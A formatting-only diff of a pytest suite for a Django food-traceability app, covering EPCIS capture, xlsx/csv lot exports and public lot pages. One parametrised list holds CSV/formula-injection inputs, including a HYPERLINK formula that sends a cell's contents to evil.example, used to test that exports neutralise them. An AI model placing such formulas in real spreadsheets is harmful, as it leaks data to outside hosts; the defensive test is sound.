@@ -74,12 +74,20 @@ def test_readme_token_line_extracts_the_token_the_api_answers(client):
     seed_demo()
     block = _readme_block("TOKEN=$(")
     code = re.search(r"python3 -c '([^']+)'", block).group(1)
-    answer = client.post("/api/v1/auth/token/", {"username": "city-regulator", "password": DEMO_PASSWORD},
-                         content_type="application/json")
+    answer = client.post(
+        "/api/v1/auth/token/",
+        {"username": "city-regulator", "password": DEMO_PASSWORD},
+        content_type="application/json",
+    )
     assert answer.status_code == 200
-    result = subprocess.run([sys.executable, "-c", code], input=answer.content, capture_output=True, check=True)
+    result = subprocess.run(
+        [sys.executable, "-c", code], input=answer.content, capture_output=True, check=True
+    )
     token = result.stdout.decode().strip()
-    assert token and client.get("/api/v1/batches/", HTTP_AUTHORIZATION=f"Token {token}").status_code == 200
+    assert (
+        token
+        and client.get("/api/v1/batches/", HTTP_AUTHORIZATION=f"Token {token}").status_code == 200
+    )
 
 
 @pytest.fixture
@@ -92,23 +100,35 @@ def celery_inline():
     conf.task_always_eager, conf.task_eager_propagates = saved
 
 
-def test_readme_epcis_example_captures_a_lot_and_its_shipment(django_capture_on_commit_callbacks, celery_inline):
+def test_readme_epcis_example_captures_a_lot_and_its_shipment(
+    django_capture_on_commit_callbacks, celery_inline
+):
     """The example file, posted as the README says (as the demo dairy), makes the lot
     and ships half of it to the demo distributor."""
     seed_demo()
     name = re.search(r"--data-binary @(\S+)", README).group(1)
     client = Client()
-    token = client.post("/api/v1/auth/token/", {"username": "producer", "password": DEMO_PASSWORD},
-                        content_type="application/json").json()["token"]
+    token = client.post(
+        "/api/v1/auth/token/",
+        {"username": "producer", "password": DEMO_PASSWORD},
+        content_type="application/json",
+    ).json()["token"]
     with django_capture_on_commit_callbacks(execute=True):
-        response = client.generic("POST", "/epcis/capture", (ROOT / name).read_bytes(),
-                                  content_type="application/ld+json", HTTP_AUTHORIZATION=f"Token {token}")
+        response = client.generic(
+            "POST",
+            "/epcis/capture",
+            (ROOT / name).read_bytes(),
+            content_type="application/ld+json",
+            HTTP_AUTHORIZATION=f"Token {token}",
+        )
     assert response.status_code == 202, response.content
     job = client.get(response["Location"], HTTP_AUTHORIZATION=f"Token {token}").json()
     assert job["success"] is True and job["capturedEventCount"] == 2, job
     lot = Batch.objects.get(lot="YG-EXAMPLE-01")
     assert lot.gtin == "06901234500028"  # the demo yogurt's GTIN
-    distributor = Custody.objects.get(batch=lot, organization__memberships__user__username="distributor")
+    distributor = Custody.objects.get(
+        batch=lot, organization__memberships__user__username="distributor"
+    )
     assert distributor.in_transit == Decimal(600)
 
 
@@ -116,19 +136,26 @@ def test_readme_epcis_example_captures_a_lot_and_its_shipment(django_capture_on_
 
 
 def _settings_in_subprocess(**env) -> dict:
-    code = ("import json, django; django.setup(); from django.conf import settings; "
-            "print(json.dumps({'hosts': settings.ALLOWED_HOSTS, 'base': settings.PUBLIC_BASE_URL}))")
-    environment = {k: v for k, v in os.environ.items() if k not in ("ALLOWED_HOSTS", "PUBLIC_BASE_URL")}
+    code = (
+        "import json, django; django.setup(); from django.conf import settings; "
+        "print(json.dumps({'hosts': settings.ALLOWED_HOSTS, 'base': settings.PUBLIC_BASE_URL}))"
+    )
+    environment = {
+        k: v for k, v in os.environ.items() if k not in ("ALLOWED_HOSTS", "PUBLIC_BASE_URL")
+    }
     environment.update(env, DJANGO_SETTINGS_MODULE="config.settings", SUYUAN_DEV="1")
-    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=environment, capture_output=True,
-                            check=True)
+    result = subprocess.run(
+        [sys.executable, "-c", code], cwd=ROOT, env=environment, capture_output=True, check=True
+    )
     return json.loads(result.stdout)
 
 
 def test_the_public_base_url_host_is_allowed_so_a_phone_on_the_lan_gets_the_page():
     lan = _settings_in_subprocess(PUBLIC_BASE_URL="http://192.168.1.20:8000")
     assert "192.168.1.20" in lan["hosts"] and "127.0.0.1" in lan["hosts"]
-    listed = _settings_in_subprocess(ALLOWED_HOSTS="trace.example.cn", PUBLIC_BASE_URL="https://scan.example.cn")
+    listed = _settings_in_subprocess(
+        ALLOWED_HOSTS="trace.example.cn", PUBLIC_BASE_URL="https://scan.example.cn"
+    )
     assert listed["hosts"] == ["trace.example.cn", "scan.example.cn"]
     ipv6 = _settings_in_subprocess(PUBLIC_BASE_URL="http://[fd00::2]:8000")
     assert "[fd00::2]" in ipv6["hosts"]
@@ -137,26 +164,44 @@ def test_the_public_base_url_host_is_allowed_so_a_phone_on_the_lan_gets_the_page
 @pytest.mark.skipif(shutil.which("make") is None, reason="make is not installed")
 def test_make_run_listens_on_host_and_prints_codes_for_the_lan():
     def dry_run(**env):
-        environment = {k: v for k, v in os.environ.items() if k not in ("HOST", "PUBLIC_BASE_URL", "PORT")}
+        environment = {
+            k: v for k, v in os.environ.items() if k not in ("HOST", "PUBLIC_BASE_URL", "PORT")
+        }
         environment.update(env)
-        return subprocess.run(["make", "-n", "run"], cwd=ROOT, env=environment, capture_output=True,
-                              text=True, check=True).stdout
+        return subprocess.run(
+            ["make", "-n", "run"],
+            cwd=ROOT,
+            env=environment,
+            capture_output=True,
+            text=True,
+            check=True,
+        ).stdout
 
     assert "runserver 127.0.0.1:8102" in dry_run(PORT="8102")
     assert "runserver 0.0.0.0:8102" in dry_run(PORT="8102", HOST="0.0.0.0")
 
     def base_url(**env):
-        environment = {k: v for k, v in os.environ.items() if k not in ("HOST", "PUBLIC_BASE_URL", "PORT")}
+        environment = {
+            k: v for k, v in os.environ.items() if k not in ("HOST", "PUBLIC_BASE_URL", "PORT")
+        }
         environment.update(env)
-        return subprocess.run(["make", "-s", "--eval", "show-base-url: ; @echo $(PUBLIC_BASE_URL)",
-                               "show-base-url"], cwd=ROOT, env=environment, capture_output=True, text=True,
-                              check=True).stdout.strip()
+        return subprocess.run(
+            ["make", "-s", "--eval", "show-base-url: ; @echo $(PUBLIC_BASE_URL)", "show-base-url"],
+            cwd=ROOT,
+            env=environment,
+            capture_output=True,
+            text=True,
+            check=True,
+        ).stdout.strip()
 
     assert base_url(PORT="8102") == "http://127.0.0.1:8102"
     # Listening on every interface, the QR codes carry an address a phone can reach (not loopback).
     lan = base_url(PORT="8102", HOST="0.0.0.0")
     assert re.fullmatch(r"http://[^/]+:8102", lan) and "0.0.0.0" not in lan
-    assert base_url(HOST="0.0.0.0", PUBLIC_BASE_URL="http://192.168.1.20:8000") == "http://192.168.1.20:8000"
+    assert (
+        base_url(HOST="0.0.0.0", PUBLIC_BASE_URL="http://192.168.1.20:8000")
+        == "http://192.168.1.20:8000"
+    )
     makefile = (ROOT / "Makefile").read_text()
     assert "HOST ?= 127.0.0.1" in makefile
     assert "HOST=0.0.0.0 make run" in README and "ALLOWED_HOSTS" in README
@@ -170,15 +215,23 @@ def shipped(enterprise, partner):
     """A lot made at the plant and 20 cups of it shipped to the partner, by names a newcomer uses."""
     enterprise.org.name, enterprise.org.name_en = "彭城乳业", "Pengcheng Dairy"
     enterprise.org.save()
-    product = ProductFactory(owner=enterprise.org, name="酸奶", name_en="Yogurt", specification="200 g/杯")
-    plant = SiteFactory(owner=enterprise.org, name="铜山工厂", address="江苏省徐州市铜山区银山路8号")
+    product = ProductFactory(
+        owner=enterprise.org, name="酸奶", name_en="Yogurt", specification="200 g/杯"
+    )
+    plant = SiteFactory(
+        owner=enterprise.org, name="铜山工厂", address="江苏省徐州市铜山区银山路8号"
+    )
     batch = produce(enterprise.user, product, lot="YG-1", quantity=Decimal(100), site=plant)
-    batch_ship(batch=batch, to=partner.org, quantity=Decimal("20.5"), actor=enterprise.user, site=plant)
+    batch_ship(
+        batch=batch, to=partner.org, quantity=Decimal("20.5"), actor=enterprise.user, site=plant
+    )
     return batch
 
 
 def _sheet(persona, batch, language="en"):
-    response = persona.client.get(f"/api/v1/batches/{batch.pk}/trace.xlsx", HTTP_ACCEPT_LANGUAGE=language)
+    response = persona.client.get(
+        f"/api/v1/batches/{batch.pk}/trace.xlsx", HTTP_ACCEPT_LANGUAGE=language
+    )
     assert response.status_code == 200, response.content[:500]
     return load_workbook(io.BytesIO(response.content)).active
 
@@ -196,17 +249,24 @@ def test_xlsx_labels_beside_codes_real_dates_and_numbers_bold_frozen_header(ente
     assert sheet.auto_filter.ref.startswith("A1:")
     shipping = next(r for r in rows if r["Business step (CBV code)"].value == "shipping")
     assert shipping["Critical tracking event"].value == "Shipment"
-    assert (shipping["Disposition"].value, shipping["Disposition (CBV code)"].value) == ("In transit", "in_transit")
+    assert (shipping["Disposition"].value, shipping["Disposition (CBV code)"].value) == (
+        "In transit",
+        "in_transit",
+    )
     assert (shipping["Unit"].value, shipping["Unit (UN/ECE code)"].value) == ("pieces", "EA")
     quantity = shipping["Quantity"]
     assert quantity.data_type == "n" and quantity.value == 20.5
     when = shipping["Event time (Asia/Shanghai)"]
     assert isinstance(when.value, datetime) and when.number_format == "yyyy-mm-dd hh:mm:ss"
     event = Event.objects.get(biz_step="shipping")
-    expected = event.event_time.astimezone(ZoneInfo("Asia/Shanghai")).replace(tzinfo=None, microsecond=0)
+    expected = event.event_time.astimezone(ZoneInfo("Asia/Shanghai")).replace(
+        tzinfo=None, microsecond=0
+    )
     assert when.value.replace(microsecond=0) == expected
     # Wide enough for what they hold: the event ID column is wider than the unit code's.
-    widths = {title: sheet.column_dimensions[chr(ord("A") + i)].width for i, title in enumerate(header)}
+    widths = {
+        title: sheet.column_dimensions[chr(ord("A") + i)].width for i, title in enumerate(header)
+    }
     assert widths["Event ID"] > widths["Unit (UN/ECE code)"] >= 8
 
 
@@ -216,7 +276,9 @@ def test_xlsx_and_csv_labels_follow_the_language_asked_for(enterprise, shipped):
     assert shipping["关键追溯事件"].value == "发货"
     assert shipping["单位"].value == "件"
     assert shipping["状态"].value == "运输中"
-    text = enterprise.client.get(f"/api/v1/batches/{shipped.pk}/trace.csv").content.decode("utf-8-sig")
+    text = enterprise.client.get(f"/api/v1/batches/{shipped.pk}/trace.csv").content.decode(
+        "utf-8-sig"
+    )
     rows = list(csv.DictReader(io.StringIO(text)))
     row = next(r for r in rows if r["业务步骤（CBV 代码）"] == "shipping")
     assert (row["关键追溯事件"], row["数量"], row["单位"]) == ("发货", "20.5", "件")
@@ -234,12 +296,21 @@ def test_a_control_character_in_a_name_does_not_break_the_export(enterprise, par
     _header, rows = _records(_sheet(enterprise, batch))
     assert {r["Location"].value for r in rows} == {"Shop"}
     assert "Partner Ltd" in {r["Ship to"].value for r in rows}
-    text = enterprise.client.get(f"/api/v1/batches/{batch.pk}/trace.csv").content.decode("utf-8-sig")
+    text = enterprise.client.get(f"/api/v1/batches/{batch.pk}/trace.csv").content.decode(
+        "utf-8-sig"
+    )
     assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
     assert ",Shop," in text
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1",
+    "\r=1",
+]
 
 
 @pytest.mark.parametrize("name", FORMULAS)
@@ -248,13 +319,17 @@ def test_formula_leading_cells_are_text_in_csv_and_xlsx(enterprise, partner, nam
     in both formats, and xlsx stores it as a string, never a formula."""
     partner.org.name = name
     partner.org.save()
-    batch = produce(enterprise.user, ProductFactory(owner=enterprise.org), lot="F-1", quantity=Decimal(10))
+    batch = produce(
+        enterprise.user, ProductFactory(owner=enterprise.org), lot="F-1", quantity=Decimal(10)
+    )
     batch_ship(batch=batch, to=partner.org, quantity=Decimal(1), actor=enterprise.user)
     _header, rows = _records(_sheet(enterprise, batch))
     cell = next(r["Ship to"] for r in rows if r["Ship to"].value)
     # (xlsx keeps a CR as a line feed; what matters is the apostrophe in front.)
     assert cell.data_type == "s" and cell.value.replace("\n", "\r") == "'" + name
-    text = enterprise.client.get(f"/api/v1/batches/{batch.pk}/trace.csv").content.decode("utf-8-sig")
+    text = enterprise.client.get(f"/api/v1/batches/{batch.pk}/trace.csv").content.decode(
+        "utf-8-sig"
+    )
     values = [row[10] for row in csv.reader(io.StringIO(text))][1:]
     assert "'" + name in values
     assert name not in values
@@ -269,7 +344,9 @@ def test_one_sanitiser_for_both_writers():
 
 
 def test_a_lot_with_slashes_exports_as_xlsx(enterprise):
-    batch = produce(enterprise.user, ProductFactory(owner=enterprise.org), lot="2026/11:A*", quantity=Decimal(1))
+    batch = produce(
+        enterprise.user, ProductFactory(owner=enterprise.org), lot="2026/11:A*", quantity=Decimal(1)
+    )
     sheet = _sheet(enterprise, batch)
     assert sheet.title == "2026-11-A-"
 
@@ -313,15 +390,31 @@ def test_a_lot_without_recorded_inputs_does_not_guess_its_origin(enterprise, par
     """The plant's district is not where the raw materials came from."""
     page = body(Client().get(url(shipped), HTTP_ACCEPT_LANGUAGE="en"))
     assert re.search(r'<dd id="origin-region">not recorded</dd>', page)
-    assert Client().get(f"/api/v1/public/batches/{shipped.gtin}/{shipped.lot}/").json()["origin_region"] == ""
+    assert (
+        Client()
+        .get(f"/api/v1/public/batches/{shipped.gtin}/{shipped.lot}/")
+        .json()["origin_region"]
+        == ""
+    )
     farmer = UserFactory(organization=EnterpriseFactory(region_code="320324"))
     farm = farmer.membership.organization
-    milk = produce(farmer, ProductFactory(owner=farm), lot="RM-1", quantity=Decimal(50),
-                   site=SiteFactory(owner=farm, address="江苏省徐州市睢宁县魏集镇"))
+    milk = produce(
+        farmer,
+        ProductFactory(owner=farm),
+        lot="RM-1",
+        quantity=Decimal(50),
+        site=SiteFactory(owner=farm, address="江苏省徐州市睢宁县魏集镇"),
+    )
     batch_ship(batch=milk, to=enterprise.org, quantity=Decimal(50), actor=farmer)
     batch_receive(batch=milk, actor=enterprise.user)
-    made = batch_transform(inputs=[(milk, Decimal(50))], product=shipped.product, lot="YG-2",
-                           quantity=Decimal(100), unit="EA", actor=enterprise.user)
+    made = batch_transform(
+        inputs=[(milk, Decimal(50))],
+        product=shipped.product,
+        lot="YG-2",
+        quantity=Decimal(100),
+        unit="EA",
+        actor=enterprise.user,
+    )
     chinese = body(Client().get(url(made)))
     assert '<dd id="origin-region">江苏省徐州市睢宁县</dd>' in chinese
     english = body(Client().get(url(made), HTTP_ACCEPT_LANGUAGE="en"))
@@ -332,28 +425,36 @@ def test_a_lot_without_recorded_inputs_does_not_guess_its_origin(enterprise, par
 
 
 def test_signed_in_page_links_to_the_form_and_comes_back_to_it_saying_what_was_recorded(
-        enterprise, partner, shipped):
+    enterprise, partner, shipped
+):
     partner.org.name_en = "Huaihai Cold Chain"
     partner.org.save()
     client = signed_in(enterprise)
     page = body(client.get(url(shipped), HTTP_ACCEPT_LANGUAGE="en"))
     assert page.index('href="#log"') < page.index('id="product-title"')  # near the top
     assert 'id="log"' in page
-    response = client.post(url(shipped, "/actions/ship"),
-                           {"ship-to_organization": partner.org.pk, "ship-quantity": "20"},
-                           HTTP_ACCEPT_LANGUAGE="en")
+    response = client.post(
+        url(shipped, "/actions/ship"),
+        {"ship-to_organization": partner.org.pk, "ship-quantity": "20"},
+        HTTP_ACCEPT_LANGUAGE="en",
+    )
     assert response.status_code == 302 and response["Location"].endswith("#log")
     page = body(client.get(url(shipped), HTTP_ACCEPT_LANGUAGE="en"))
-    log = page[page.index('id="log"'):]
+    log = page[page.index('id="log"') :]
     assert "Recorded: shipment of 20 pieces to Huaihai Cold Chain." in log
-    client.post(url(shipped, "/actions/inspect"), {"inspect-result": "pass", "inspect-report_ref": "QC-7"})
+    client.post(
+        url(shipped, "/actions/inspect"), {"inspect-result": "pass", "inspect-report_ref": "QC-7"}
+    )
     assert "已记录：检验，结果 合格，报告 QC-7。" in body(client.get(url(shipped)))
 
 
 def test_signing_in_without_next_lands_on_your_lots(enterprise, shipped):
     client = Client()
-    response = client.post("/accounts/login/", {"username": enterprise.user.username,
-                                                 "password": "pw-for-tests-2026"}, follow=True)
+    response = client.post(
+        "/accounts/login/",
+        {"username": enterprise.user.username, "password": "pw-for-tests-2026"},
+        follow=True,
+    )
     page = body(response)
     assert response.redirect_chain[-1][0] == "/accounts/"
     assert url(shipped, "#log") in page  # the lot, straight to its form
@@ -371,7 +472,9 @@ def test_unknown_lot_page_explains_and_offers_a_way_on(shipped):
     assert 'id="way-home"' in page and "mistyped" in page
     found = Client().get("/lookup/", {"gtin": shipped.gtin, "lot": shipped.lot})
     assert found.status_code == 302 and found["Location"] == url(shipped)
-    missing = Client().get("/lookup/", {"gtin": shipped.gtin, "lot": "NOPE-1"}, HTTP_ACCEPT_LANGUAGE="en")
+    missing = Client().get(
+        "/lookup/", {"gtin": shipped.gtin, "lot": "NOPE-1"}, HTTP_ACCEPT_LANGUAGE="en"
+    )
     assert missing.status_code == 404 and "No lot with this GTIN" in body(missing)
     bad = Client().get("/lookup/", {"gtin": "123", "lot": "X"})
     assert bad.status_code == 400 and 'id="id_gtin_error"' in body(bad)
